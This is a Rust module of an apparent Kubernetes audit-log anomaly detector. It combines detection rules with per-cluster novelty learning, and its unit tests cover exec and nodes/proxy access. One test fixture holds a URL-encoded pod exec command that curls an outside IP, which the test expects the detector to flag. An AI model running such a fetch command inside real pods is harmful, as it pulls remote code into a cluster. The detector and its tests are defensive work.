//! The per-event entry point: rules and first-seen novelty for one stream.
//!
//! The daemon calls [`LiveDetector::observe`] for every decoded event as it is
//! ingested, and [`LiveDetector::tick`] now and then (e.g. once a second) so
//! novelty windows close even when an identity goes quiet; `auditlens detect`
//! replays stored history through exactly the same calls. Per event it costs
//! one stage check, the rules (a few string comparisons; a JSON parse only for
//! the rare RBAC, webhook, pod and CSR writes) and a handful of hash lookups in
//! the novelty index (see benches/detect.rs for the measured cost).
//!
//! Order matters inside `observe`: rules run first, then a habitual rule hit is
//! dropped if the novelty index already knew the action, and only then does
//! the index learn from the event. So the first time anyone reads
//! `nodes/proxy` is an alert, and the thousandth time Prometheus does is not.
//! State is kept per cluster.

use super::anomaly::Anomaly;
use super::novelty::{NoveltyIndex, NoveltyOptions};
use super::rules::{RuleOptions, RuleSet};
use super::stages::FinalStageFilter;
use crate::audit::AuditEvent;
use std::collections::HashMap;

/// Options of every event-stream layer.
#[derive(Debug, Clone, Default)]
pub struct DetectorOptions {
    pub rules: RuleOptions,
    pub novelty: NoveltyOptions,
    /// Run the novelty layer (on by default).
    pub disable_novelty: bool,
}

/// Rules and novelty for one cluster.
#[derive(Debug)]
pub struct ClusterDetector {
    stages: FinalStageFilter,
    rules: RuleSet,
    novelty: NoveltyIndex,
    novelty_enabled: bool,
    silenced_by_habit: u64,
}

impl ClusterDetector {
    pub fn new(options: &DetectorOptions, cluster: &str) -> ClusterDetector {
        ClusterDetector {
            stages: FinalStageFilter::default(),
            rules: RuleSet::new(options.rules.clone()).with_cluster(cluster),
            novelty: NoveltyIndex::new(options.novelty.clone()).with_cluster(cluster),
            novelty_enabled: !options.disable_novelty,
            silenced_by_habit: 0,
        }
    }

    pub fn novelty_mut(&mut self) -> &mut NoveltyIndex {
        &mut self.novelty
    }

    pub fn rules(&self) -> &RuleSet {
        &self.rules
    }

    /// Rule hits silenced because the identity does this habitually.
    pub fn silenced_by_habit(&self) -> u64 {
        self.silenced_by_habit
    }

    /// One event, any stage, in time order.
    pub fn observe(&mut self, event: &AuditEvent) -> Vec<Anomaly> {
        if !self.stages.is_final(event) {
            return Vec::new();
        }
        let mut anomalies = Vec::new();
        for hit in self.rules.evaluate_request(event) {
            let habitual = !hit.habit_keys.is_empty()
                && hit.habit_keys.iter().all(|key| {
                    self.novelty.is_habitual(
                        &hit.anomaly.identity,
                        key,
                        hit.anomaly.window_start_micros(),
                    )
                });
            if habitual {
                self.silenced_by_habit += 1;
            } else {
                anomalies.push(hit.anomaly);
            }
        }
        if self.novelty_enabled {
            anomalies.extend(self.novelty.observe(event));
        }
        anomalies
    }

    /// Closes novelty windows that ended before `now` (UTC µs).
    pub fn tick(&mut self, now: i64) -> Vec<Anomaly> {
        self.novelty.close_windows(now)
    }

    /// Closes every open window (end of a replay).
    pub fn finish(&mut self) -> Vec<Anomaly> {
        self.novelty.finish()
    }
}

/// The daemon's single entry point: rules and novelty per cluster.
#[derive(Debug)]
pub struct LiveDetector {
    options: DetectorOptions,
    clusters: HashMap<String, ClusterDetector>,
}

impl LiveDetector {
    pub fn new(options: DetectorOptions) -> LiveDetector {
        LiveDetector {
            options,
            clusters: HashMap::new(),
        }
    }

    /// The detector of one cluster, created on first use.
    pub fn cluster(&mut self, cluster: &str) -> &mut ClusterDetector {
        let options = &self.options;
        self.clusters
            .entry(cluster.to_string())
            .or_insert_with(|| ClusterDetector::new(options, cluster))
    }

    /// Observes one decoded event of `cluster` (any stage, in the order the
    /// log has them) and returns the anomalies it completes. Never blocks,
    /// never fails: an event a rule cannot read is simply not matched.
    pub fn observe(&mut self, event: &AuditEvent, cluster: &str) -> Vec<Anomaly> {
        self.cluster(cluster).observe(event)
    }

    /// Closes novelty windows of every cluster that ended before `now`.
    pub fn tick(&mut self, now: i64) -> Vec<Anomaly> {
        self.clusters
            .values_mut()
            .flat_map(|detector| detector.tick(now))
            .collect()
    }

    /// Closes every open window of every cluster.
    pub fn finish(&mut self) -> Vec<Anomaly> {
        self.clusters
            .values_mut()
            .flat_map(ClusterDetector::finish)
            .collect()
    }

    /// Forgets what `identity` of `cluster` showed for the first time within
    /// `[start, end]` (UTC µs), a window confirmed as an attack: see
    /// [`NoveltyIndex::unlearn_window`]. Returns how many values it forgot.
    pub fn unlearn_window(&mut self, cluster: &str, identity: &str, start: i64, end: i64) -> usize {
        self.clusters.get_mut(cluster).map_or(0, |detector| {
            detector.novelty.unlearn_window(identity, start, end)
        })
    }

    /// Rule hits silenced because the identity does this habitually, over all clusters.
    pub fn silenced_by_habit(&self) -> u64 {
        self.clusters
            .values()
            .map(ClusterDetector::silenced_by_habit)
            .sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const DAY: i64 = 86_400_000_000;
    const T0: i64 = 1_800_057_600_000_000;

    fn proxy(user: &str, ts: i64, id: &str, stage: &str) -> AuditEvent {
        let time = crate::audit::format_rfc3339_micros(ts);
        let value = json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": id, "stage": stage,
            "requestURI": "/api/v1/nodes/worker-1/proxy/metrics", "verb": "get",
            "user": {"username": user}, "sourceIPs": ["10.244.2.9"], "userAgent": "prometheus/2.50",
            "objectRef": {"resource": "nodes", "name": "worker-1", "subresource": "proxy", "apiVersion": "v1"},
            "responseStatus": {"code": 200}, "requestReceivedTimestamp": time, "stageTimestamp": time
        });
        AuditEvent::decode(value.to_string().as_bytes()).expect("valid test event")
    }

    fn pod_request(
        user: &str,
        ts: i64,
        id: &str,
        namespace: &str,
        exec: Option<&str>,
    ) -> AuditEvent {
        let time = crate::audit::format_rfc3339_micros(ts);
        let (verb, uri, subresource, code) = match exec {
            Some(command) => (
                "create",
                format!(
                    "/api/v1/namespaces/{namespace}/pods/web-1/exec?command={command}&stdin=true"
                ),
                "exec",
                101,
            ),
            None => (
                "list",
                format!("/api/v1/namespaces/{namespace}/pods"),
                "",
                200,
            ),
        };
        let value = json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": id,
            "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
            "user": {"username": user, "groups": ["system:authenticated", "devs"]},
            "sourceIPs": ["10.0.0.7"], "userAgent": "kubectl/v1.31.0",
            "objectRef": {"resource": "pods", "namespace": namespace, "name": "web-1", "subresource": subresource, "apiVersion": "v1"},
            "responseStatus": {"code": code}, "requestReceivedTimestamp": time, "stageTimestamp": time
        });
        AuditEvent::decode(value.to_string().as_bytes()).expect("valid test event")
    }

    #[test]
    fn a_person_exec_into_a_namespace_they_work_in_is_silent_elsewhere_reported() {
        let mut detector = LiveDetector::new(DetectorOptions::default());
        let person = "alice@example.com";
        // Three days of listing pods in `dev`, every 15 minutes.
        for step in 0..(3 * 24 * 4) {
            let ts = T0 + step * 15 * 60_000_000;
            detector.observe(
                &pod_request(person, ts, &format!("l-{step}"), "dev", None),
                "default",
            );
        }
        let at = T0 + 3 * DAY + 60_000_000;
        let exec_rule = |anomalies: Vec<Anomaly>| {
            anomalies
                .iter()
                .filter(|anomaly| anomaly.detector == "workload.exec")
                .count()
        };
        let home = detector.observe(
            &pod_request(person, at, "x-1", "dev", Some("sh")),
            "default",
        );
        assert_eq!(exec_rule(home), 0, "exec where the person works is routine");
        let away = detector.observe(
            &pod_request(person, at + 1_000_000, "x-2", "payments", Some("sh")),
            "default",
        );
        assert_eq!(
            exec_rule(away),
            1,
            "exec into a namespace the person never worked in"
        );
        let fetch = detector.observe(
            &pod_request(
                person,
                at + 2_000_000,
                "x-3",
                "dev",
                Some("curl%20http%3A%2F%2F203.0.113.9%2Fx"),
            ),
            "default",
        );
        assert_eq!(exec_rule(fetch), 1, "a suspicious command is never a habit");
    }

    #[test]
    fn a_habit_silences_a_habitual_rule_but_a_newcomer_is_reported() {
        let mut detector = LiveDetector::new(DetectorOptions::default());
        let prometheus = "system:serviceaccount:monitoring:prometheus";
        let mut first_day = Vec::new();
        for step in 0..(3 * 24 * 4) {
            let ts = T0 + step * 15 * 60_000_000;
            let id = format!("p-{step}");
            detector.observe(&proxy(prometheus, ts, &id, "RequestReceived"), "default");
            let anomalies =
                detector.observe(&proxy(prometheus, ts, &id, "ResponseComplete"), "default");
            if step == 0 {
                first_day = anomalies;
            } else if ts > T0 + 2 * DAY + 60_000_000 {
                assert!(
                    anomalies.is_empty(),
                    "a learned habit is silent: {anomalies:?}"
                );
            }
        }
        assert_eq!(
            first_day.len(),
            1,
            "the very first nodes/proxy read is reported"
        );
        assert!(detector.silenced_by_habit() > 0);
        let newcomer = detector.observe(
            &proxy(
                "mallory@example.com",
                T0 + 3 * DAY,
                "m-1",
                "ResponseComplete",
            ),
            "default",
        );
        assert_eq!(
            newcomer
                .iter()
                .filter(|anomaly| anomaly.detector == "node.proxy")
                .count(),
            1
        );
        let other_cluster = detector.observe(
            &proxy(prometheus, T0 + 3 * DAY, "p-x", "ResponseComplete"),
            "staging",
        );
        assert_eq!(other_cluster.len(), 1, "each cluster learns separately");
        assert_eq!(other_cluster[0].cluster, "staging");
    }
}
